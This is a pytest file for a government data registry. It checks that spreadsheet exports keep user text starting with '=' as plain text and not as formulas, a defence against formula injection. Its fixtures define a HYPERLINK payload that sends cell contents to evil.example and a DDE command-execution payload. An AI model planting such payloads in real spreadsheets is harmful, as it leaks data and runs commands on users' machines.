"""Every export writes user text as text: a name or title starting with "=" is a string cell in the
catalog export, the master directory, the funding and budget reports, the duplicates workbook, the
catalog template (also the anonymous template URL), the declaration form and the annotated copy of
an upload, never a live formula."""
from __future__ import annotations

from pathlib import Path

from openpyxl import Workbook, load_workbook

from importers.annotate import annotate
from importers.catalog_export import export_catalog
from importers.declaration_form import write_declaration
from importers.problems import Problem
from registry.funding.export import write_budget_report, write_directory, write_funding_report
from registry.funding.storage import LocalUpload
from search.duplicates.export import write_duplicates_xlsx
from tests.funding_support import compliant_system

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
SUM = "=SUM(1,2)"


def _texts(path_or_bytes) -> set[str]:
    """Every string in the workbook, after checking that no cell holds a formula."""
    book = load_workbook(path_or_bytes)
    found = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    found.add(cell.value)
    return found


def _hostile_county(make):
    unit = make.unit(code="gaj", name="云阳县公安局")
    other = make.unit(code="mzj", name="云阳县民政局")
    system = compliant_system(make, unit, name=LINK)
    other_system = compliant_system(make, other, name="低保系统")
    items = ("姓名", "公民身份号码", "联系电话", "出生日期")
    make.package(system, title=DDE, items=items)
    make.package(other_system, title="低保对象" , items=items)
    return system


def test_catalog_export_and_master_directory_keep_formula_text_as_text(reg, make, tmp_path):
    system = _hostile_county(make)
    make.package(system, title="户籍人口", items=(SUM, "姓名"))
    with reg.db.unit_of_work() as session:
        export_catalog(session, tmp_path / "catalog.xlsx")
    assert {LINK, DDE, SUM} <= _texts(tmp_path / "catalog.xlsx")
    directory = make.act("directory_list", {"rows": 100})
    write_directory(directory["results"], tmp_path / "directory.xlsx")
    assert LINK in _texts(tmp_path / "directory.xlsx")


def test_funding_and_budget_reports_keep_formula_text_as_text(make, tmp_path):
    _hostile_county(make)
    report = make.act("funding_report", {"year": 2027})
    write_funding_report(report["results"], report["summary"], tmp_path / "funding.xlsx", 2027)
    assert LINK in _texts(tmp_path / "funding.xlsx")
    wb = Workbook()
    ws = wb.active
    ws.append(["序号", "申报单位", "系统名称", "申请金额（元）"])
    ws.append([1, "云阳县公安局", "户政系统", 1000])
    ws.append([2, "云阳县公安局", "智慧停车", 2000])
    ws["C2"].value, ws["C2"].data_type = DDE, "s"  # as a county clerk could type it (as text)
    wb.save(tmp_path / "budget-in.xlsx")
    run = make.act("budget_upload", {"year": 2027, "upload": LocalUpload(tmp_path / "budget-in.xlsx", "b.xlsx")})
    lines = make.act("budget_report", {"run": run["id"]})
    write_budget_report(lines["lines"], lines["summary"], tmp_path / "budget.xlsx", 2027)
    assert DDE in _texts(tmp_path / "budget.xlsx")


def test_duplicates_workbook_keeps_formula_text_as_text(make, tmp_path):
    _hostile_county(make)
    make.act("duplicate_scan", {})
    findings = make.act("duplicate_list", {"rows": 100})["results"]
    assert findings
    write_duplicates_xlsx(findings, str(tmp_path / "duplicates.xlsx"))
    texts = _texts(tmp_path / "duplicates.xlsx")
    assert LINK in texts or DDE in texts


def test_anonymous_template_url_and_declaration_and_annotated_copy_keep_formula_text_as_text(client, tmp_path):
    answer = client.get("/import/template/catalog.xlsx", query_string={"system": LINK, "unit": DDE})
    assert answer.status_code == 200
    (tmp_path / "template.xlsx").write_bytes(answer.data)
    assert LINK in _texts(tmp_path / "template.xlsx")
    write_declaration({"project_name": LINK, "leader_name": DDE, "remarks": SUM}, tmp_path / "declaration.xlsx")
    assert {LINK, DDE, SUM} <= _texts(tmp_path / "declaration.xlsx")
    csv = tmp_path / "upload.csv"
    csv.write_text(f"信息资源名称,信息项名称\n{DDE},=1+2\n", encoding="utf-8")
    annotate(csv, "upload.csv", [Problem("upload", 2, "A", DDE, "示例问题")], tmp_path / "annotated.xlsx")
    assert {DDE, "=1+2"} <= _texts(tmp_path / "annotated.xlsx")


# the annotated copy keeps the uploader's own workbook as it was (their formulas included); the cells it
# adds (problem list, values copied from .xls/.csv) are written with text_row / write_text
OWN_WORKBOOK_KEPT = {"importers/annotate.py"}


def test_every_in_memory_workbook_is_saved_through_the_text_helper():
    root = Path(__file__).resolve().parent.parent
    offenders = []
    for folder in ("importers", "registry", "search"):
        for path in (root / folder).rglob("*.py"):
            source = path.read_text()
            if "Workbook()" in source and "save_as_text" not in source and path.name != "xlsx_text.py" \
                    and path.relative_to(root).as_posix() not in OWN_WORKBOOK_KEPT:
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
